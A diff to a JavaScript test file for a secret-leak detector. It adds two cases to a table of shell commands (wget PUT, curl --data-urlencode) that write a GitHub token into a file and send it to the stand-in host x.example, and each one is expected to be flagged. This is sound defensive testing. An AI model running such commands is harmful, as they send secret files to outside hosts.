@@ -36,6 +36,8 @@ describe("secret text in what a command sends", () => {
       "nc x.example 80 < s.txt",
       "scp s.txt x.example:/tmp/",
       "wget --post-file=s.txt https://x.example",
+      "wget --body-file=s.txt --method=PUT https://x.example",
+      "curl --data-urlencode note@s.txt https://x.example",
     ])
       expect(secretTags(`printf '%s' 'token: ${GITHUB}' > s.txt; ${send}`)).toEqual([SENDS_SECRET_TEXT]);
   });
